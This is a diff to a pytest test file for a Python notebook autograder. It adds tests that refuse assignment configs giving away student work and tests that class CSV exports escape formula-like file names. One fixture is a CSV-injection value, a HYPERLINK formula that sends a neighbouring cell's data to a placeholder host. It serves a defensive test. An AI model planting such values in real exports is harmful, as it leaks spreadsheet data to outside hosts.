@@ -6,8 +6,10 @@ attack touches, the reason must show in the feedback, and the grader (its numpy,
 
 from __future__ import annotations
 
+import csv
 import hashlib
 import json
+import shutil
 from collections.abc import Callable
 from pathlib import Path
 
@@ -15,8 +17,16 @@ import nbformat
 import numpy as np
 import pytest
 
-from toynet.grading.assign import build
-from toynet.grading.grade import Bundle, SubmissionResult, grade_many, grade_submission, write_results
+from toynet.grading.assign import AssignmentError, build
+from toynet.grading.grade import (
+    Bundle,
+    QuestionResult,
+    SubmissionResult,
+    grade_many,
+    grade_submission,
+    write_csv,
+    write_results,
+)
 from toynet.grading.sandbox import Limits
 
 ASSIGNMENTS = Path(__file__).resolve().parent.parent / "assignments"
@@ -94,6 +104,24 @@ def test_gradient_checking_assignment_builds_and_scores(tmp_path: Path) -> None:
 
     names = zipfile.ZipFile(built.gradescope).namelist()  # type: ignore[arg-type]
     assert {"setup.sh", "run_autograder", "autograder/assignment.json", "toynet-src/pyproject.toml"} <= set(names)
+
+
+@pytest.mark.parametrize(
+    ("gives", "held"),
+    [
+        # Network.forward's body names Linear, ReLU and Sigmoid: whole classes are carried, backward included,
+        # and `from toynet.layers import Linear` would score linear_backward without a line written
+        (["toynet.network:Network.forward"], "toynet.layers:Linear (carried)"),
+        (["toynet.layers:Sigmoid.forward"], "toynet.layers:Sigmoid.forward (given)"),
+    ],
+)
+def test_gives_that_hold_what_students_must_write_are_refused(tmp_path: Path, gives: list[str], held: str) -> None:
+    shutil.copy(ASSIGNMENTS / "layers.ipynb", tmp_path)
+    (tmp_path / "config.json").write_text(json.dumps({"layers": {"gives": gives}}))
+    with pytest.raises(AssignmentError, match="the student's toynet would hold") as caught:
+        build(tmp_path / "layers.ipynb", tmp_path / "out")
+    assert held in str(caught.value)
+    assert not (tmp_path / "out").exists()  # refused before anything is written or graded
 
 
 @pytest.mark.parametrize(
@@ -230,3 +258,12 @@ def test_a_class_in_parallel_with_csv(layers: Path, tmp_path: Path) -> None:
     write_results(results, tmp_path / "grades")
     rows = (tmp_path / "grades" / "class.csv").read_text().splitlines()
     assert rows[0].startswith("submission,linear_backward") and rows[2].startswith("buggy.ipynb,0,1,1,1,2,5,8")
+
+
+def test_class_csv_never_holds_a_formula(tmp_path: Path) -> None:
+    """A submission's file name is the student's to choose; a spreadsheet runs a cell that starts with = + - @
+    (OWASP's "CSV injection"), so such a name is written as text."""
+    names = ['=HYPERLINK("http://example.invalid/?"&B2,"see")', "+1+1", "-2+3", "@SUM(1)", "fine.ipynb"]
+    results = [SubmissionResult(name, [QuestionResult("q", 1.0, 1.0, "passed")]) for name in names]
+    rows = list(csv.reader(write_csv(results, tmp_path / "class.csv").read_text().splitlines()))
+    assert [row[0] for row in rows[1:]] == ["'" + name for name in names[:-1]] + ["fine.ipynb"]
